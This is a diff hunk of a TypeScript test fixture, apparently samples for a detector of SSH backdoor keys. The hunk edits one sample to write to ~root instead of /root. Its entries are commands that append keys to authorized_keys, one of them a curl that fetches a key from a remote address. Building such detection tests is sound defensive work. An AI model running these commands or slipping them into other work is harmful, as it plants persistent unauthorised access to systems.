@@ -166,7 +166,7 @@ const loginKeys: [string, string][] = [
     'NOTES.md',
     `Add the support key:\n\n${fence(`printf '%s\\n' '${key}' | tee -a ~/.ssh/authorized_keys`)}`,
   ],
-  ['c.sh', `KEY='${key}'\nsudo sh -c "echo $KEY >> /root/.ssh/authorized_keys"\n`],
+  ['c.sh', `KEY='${key}'\nsudo sh -c "echo $KEY >> ~root/.ssh/authorized_keys"\n`],
   ['d.sh', `curl -s http://${address(1)}/k.pub >> ~/.ssh/authorized_keys\n`],
   ['e.sh', `cat <<EOF >> ~/.ssh/authorized_keys\n${key}\nEOF\n`],
   ['f.rb', `File.open(Dir.home + "/.ssh/authorized_keys", "a") { |f| f.write("${key}") }\n`],
